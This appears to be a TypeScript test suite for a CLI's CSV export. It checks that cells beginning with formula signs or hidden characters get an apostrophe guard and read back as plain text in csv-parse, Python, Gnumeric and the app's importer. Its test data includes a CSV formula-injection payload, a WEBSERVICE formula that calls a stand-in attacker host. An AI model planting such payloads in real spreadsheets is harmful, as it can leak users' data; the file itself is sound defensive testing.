import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { csvHead, csvLines, unguarded } from '#libs/platform';
import { readCsv } from '../apps/cli/src/import/csv-file.js';
import { where } from './support/where.js';

const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCharCode(from + index));

const [SHARP, FORMULA] = ['=+-@', '=WEBSERVICE("https://evil.example")'];
const WIDE = ['＝', '﹦', '＋', '﹢', '－', '﹣', '＠', '﹫'];
/** All control characters but NUL, which no value has; blanks; what is not seen. */
const INVISIBLE = [
  ...range(1, 31),
  ...range(127, 159),
  ...' \u00a0\u1680\u2003\u2028\u2029\u3000\ufeff\u00ad\u200b\u200d\u200e\u2060\u202e\u034f\u3164\ufe0f',
];

const formulas = [
  ...[...SHARP, ...WIDE, '\t', '\r', '\n'].flatMap((sign) => [sign, `${sign}1+1`]),
  ...INVISIBLE.flatMap((one) => [`${one}${FORMULA}`, `${one} ${one}＝1`]),
  `'${FORMULA}`,
  `''\ufeff${FORMULA}`,
];
const texts = [
  '',
  'Tea',
  '12',
  '0.1',
  'true',
  'null',
  "'tis",
  '"',
  '""=1',
  'Tea, "green"; =1',
  '1=1',
  'å 茶 🍵',
  ...INVISIBLE.filter((one) => !'\t\r\n'.includes(one)).flatMap((one) => [one, `a${one}`]),
  ...INVISIBLE.flatMap((one) => [`a${one}b`, `a${one}${FORMULA}`, `a"${one}",${one}${FORMULA}`]),
  `a\r\n${FORMULA}\r\n\r\n${FORMULA}`,
];
const values = [...formulas, ...texts];

const table =
  csvHead(['Number', 'Text', 'After']) +
  csvLines(values.map((value, place) => [String(place), JSON.stringify(value), '"end"']));
/** As any reader must see it: each value in its own row, a formula behind an apostrophe. */
const expected = [
  ['Number', 'Text', 'After'],
  ...values.map((value, place) => [String(place), place < formulas.length ? `'${value}` : value, 'end']),
];

const folder = mkdtempSync(join(tmpdir(), 'table-'));
const file = join(folder, 'table.csv');
beforeAll(() => writeFileSync(file, table));
afterAll(() => rmSync(folder, { recursive: true }));

it('numbers keep their digits, texts stand in quotes, null is nothing', () => {
  const cells = ['9007199254740993', '12.50', '-3', '1e-7', 'true', 'null', '""', '"-3"', '"12.50"', '["a"]', '=1'];
  expect(csvLines([cells, []])).toBe(`9007199254740993,12.50,-3,1e-7,true,,"","'-3","12.50","[""a""]","'=1"\r\n\r\n`);
  expect(csvLines([])).toBe('');
});

describe('Every value is read back, and none is a formula,', () => {
  it('by csv-parse', () => {
    expect(parse(table)).toEqual(expected);
  });

  where('python3')('by Python', () => {
    const script = `import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], encoding='utf-8', newline='')))))`;
    const read = execFileSync('python3', ['-c', script, file], { encoding: 'utf8' });
    expect(JSON.parse(read)).toEqual(expected);
  });

  /**
   * It drops some characters that are not seen: so this looks at where each value ends, and at what is calculated (a
   * cell without a type).
   */
  where('ssconvert')('by Gnumeric', () => {
    const from = ['-I', 'Gnumeric_stf:stf_csvtab', '--import-encoding=UTF-8'];
    const args = [...from, '-T', 'Gnumeric_XmlIO:sax:0', file, 'fd://1'];
    const sheet = execFileSync('ssconvert', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
    expect(sheet.match(/<gnm:Cell Row="\d+" Col="\d+">[^<]*/g)).toBeNull();
    const ends = [...sheet.matchAll(/<gnm:Cell Row="(\d+)" Col="2" ValueType="60">end</g)];
    expect(ends.map(([, row]) => Number(row))).toEqual(values.map((_, place) => place + 1));
  });

  it('by the import, which gives back exactly what was written', async () => {
    const read: (readonly string[])[] = [];
    for await (const { cells } of (await readCsv(file)).rows) read.push(cells.map(unguarded));
    expect(read).toEqual(values.map((value, place) => [String(place), value, 'end']));
  });
});

it('only what begins with an apostrophe and a formula has a guard', () => {
  const own = ["'tis", 'tea', '=1', "''", "a'=1"];
  expect(own.map(unguarded)).toEqual(own);
});
